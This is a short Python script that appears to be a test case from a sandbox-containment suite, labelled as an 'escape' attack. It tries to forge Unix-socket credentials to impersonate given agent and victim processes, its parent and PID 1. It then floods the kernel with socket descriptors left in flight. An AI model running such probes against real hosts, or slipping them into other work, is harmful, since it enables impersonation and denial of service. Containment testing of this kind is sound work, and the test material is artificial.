# /// attack
# kind = "escape"
# aim = "pass descriptors and false credentials over a pair of sockets, and leave them in flight"
# outcome = "exited"
# ///
import array
import json
import os
import socket
import struct

given = json.loads(input())
ours, theirs = socket.socketpair()
for pid in (given["agent"], given["victim"], os.getppid(), 1):
    try:
        theirs.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        print("managed to ask for credentials")
    except OSError:
        pass
    try:
        credentials = struct.pack("iii", pid, 0, 0)
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, credentials)])
        print("managed to speak as", pid)
    except OSError:
        pass
for _ in range(1000):  # sockets that carry each other: only the kernel's collector frees them
    try:
        one, other = socket.socketpair()
        one.setblocking(False)
        numbers = array.array("i", [one.fileno(), other.fileno(), 0, 1, 2, 3])
        one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
        one.close()
        other.close()
    except OSError:
        break
print("contained")
